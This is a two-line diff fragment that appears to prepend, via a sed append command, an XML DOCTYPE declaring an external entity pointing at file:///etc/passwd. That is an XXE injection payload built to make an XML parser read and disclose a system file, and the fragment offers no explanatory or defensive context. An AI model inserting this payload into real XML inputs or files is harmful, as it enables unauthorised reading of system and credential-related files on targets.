@@ -1,0 +1,2 @@
+1a\
+<!DOCTYPE company [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
